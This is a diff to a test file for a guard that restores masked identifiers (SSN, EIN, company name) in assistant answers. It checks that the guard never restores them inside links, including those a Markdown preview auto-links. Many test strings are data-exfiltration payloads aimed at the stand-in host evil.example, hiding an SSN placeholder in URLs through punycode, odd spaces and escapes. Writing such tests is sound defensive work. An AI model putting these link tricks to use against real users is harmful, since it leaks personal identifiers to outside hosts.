@@ -1,4 +1,5 @@
 import fc from 'fast-check';
+import MarkdownIt from 'markdown-it';
 import { expect, it } from 'vitest';
 import { createPlaceholders } from '../../../src/compliance/guard/placeholders.ts';
 import { emptyAnswer, newConversation, type Turn } from '../../../src/conversation/conversation.ts';
@@ -91,12 +92,81 @@ it.each([
   '[x](<https://evil.example/ y]: z q= [SSN-1]>)',
   '[x](<https://evil.example/ \\> q= [SSN-1]>)',
   '[x]:\n<https://evil.example/ \\< q= [SSN-1]>',
+  'see evil.example/?q=[SSN-1]',
+  'evil\\.example\\/[SSN-1]',
+  '**evil.example**/[SSN-1]',
+  'evil.example:8080/a/[SSN-1] and evil.example#[SSN-1]',
+  'EVIL.EXAMPLE?[EIN-1][SSN-1]',
+  'evil.example./?[SSN-1]',
+  'xn--e1afmkfd.xn--p1ai/[SSN-1] or \u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/[SSN-1]',
+  'evil\u3002example/[SSN-1]',
+  '203.0.113.5/?q=[SSN-1]',
+  'at [SSN-1].evil.example or x-[SSN-1]-y.[EIN-1].evil.example/',
+  '[x](https://evil.example/?q=\u00a0[SSN-1])',
+  '[x](evil\u3000[SSN-1])',
+  '[x]: evil\u2003[SSN-1]',
+  'https://evil.example/?q=\ufeff[SSN-1]',
+  '<https://evil.example/\u00a0[SSN-1]>',
 ])('a placeholder in the address of “%s” is not restored', (text) => {
   expect(restored(text)).not.toContain('123-45');
   for (let cut = 0; cut <= Math.min(text.length, 100); cut++) {
     const restorer = createPlaceholders(texts, names).restorer();
     expect(restorer.push(text.slice(0, cut)) + restorer.push(text.slice(cut)) + restorer.end()).not.toContain('123-45');
   }
+});
+
+/** Programs that link what looks like an address, also without a scheme. */
+const viewer = new MarkdownIt({ linkify: true });
+viewer.linkify.set({ fuzzyLink: true, fuzzyIP: true, fuzzyEmail: true });
+/** Without the name of the site, which nobody can have registered without knowing an identifier in it. */
+function withoutSiteName(target: string): string {
+  const [, scheme = '', host = '', rest = ''] = /^(http:\/\/)?([^/?#:]*)(.*)$/s.exec(target) ?? [];
+  return scheme + host.split('.').toSpliced(-2, 1).join('.') + rest;
+}
+
+it('no link that a preview of Markdown makes of an answer has a restored identifier, for any text', () => {
+  const piece = fc.oneof(
+    {
+      weight: 3,
+      arbitrary: fc.constantFrom(
+        '[SSN-1]',
+        '\\[SSN-1\\]',
+        '[NAME-1]',
+        'evil.com',
+        'evil.com/',
+        '?q=',
+        'https://',
+        '//',
+        '](',
+      ),
+    },
+    fc.constantFrom(...'[](){}<>"\'\\/.:;,?#&=@*_~`!|-\n\t 1ax'),
+    fc.constantFrom(
+      '[x](',
+      '[x]: ',
+      '\n\n[x]',
+      'www.',
+      '.com',
+      '.co.uk',
+      ':80',
+      '&#46;',
+      '\u00a0',
+      '\u3000',
+      '\ufeff',
+      '\u200b',
+      '\u3002',
+    ),
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { minLength: 2, maxLength: 14 }), (pieces) => {
+      const html = viewer.render(restored(pieces.join('')));
+      const targets = Array.from(html.matchAll(/(?:href|src)="([^"]*)"/g), ([, target = '']) => target).filter(
+        (target) => /^[\p{L}\p{N}.-]+$/u.test(URL.parse(target, 'https://page.example/')?.hostname ?? ''),
+      );
+      expect(targets.filter((target) => /123-45|Acme|Corp/.test(withoutSiteName(target)))).toEqual([]);
+    }),
+    { numRuns: 2000 },
+  );
 });
 
 it('a placeholder at the end of an address of any length with blanks is not restored', () => {
@@ -112,6 +182,14 @@ it.each([
   ['**[NAME-1]**([EIN-1]) and [NAME-1]/[EIN-1]', '**Acme Corp**(12-3456789) and Acme Corp/12-3456789'],
   ['[the file](https://a.example/) of [NAME-1]', '[the file](https://a.example/) of Acme Corp'],
   ['| [NAME-1] | [SSN-1] |', '| Acme Corp | 123-45-6789 |'],
+  [
+    'the U.S./[EIN-1], i.e./[SSN-1], 1.263(a)-1/[SSN-1], No.12/[EIN-1]',
+    'the U.S./12-3456789, i.e./123-45-6789, 1.263(a)-1/123-45-6789, No.12/12-3456789',
+  ],
+  ['is it [NAME-1].xlsx?', 'is it Acme Corp.xlsx?'],
+  ['[NAME-1].2024.pdf and 2024_[EIN-1]_return.pdf?', 'Acme Corp.2024.pdf and 2024_12-3456789_return.pdf?'],
+  ['of [NAME-1].It paid [SSN-1].', 'of Acme Corp.It paid 123-45-6789.'],
+  ['see irs.gov, [NAME-1], and §\u00a0179 [SSN-1]', 'see irs.gov, Acme Corp, and §\u00a0179 123-45-6789'],
   ['`[SSN-1]` and \\[NAME-1\\]’s', '`123-45-6789` and Acme Corp’s'],
 ])('the placeholders of “%s” are restored', (text, expected) => {
   expect(restored(text)).toBe(expected);
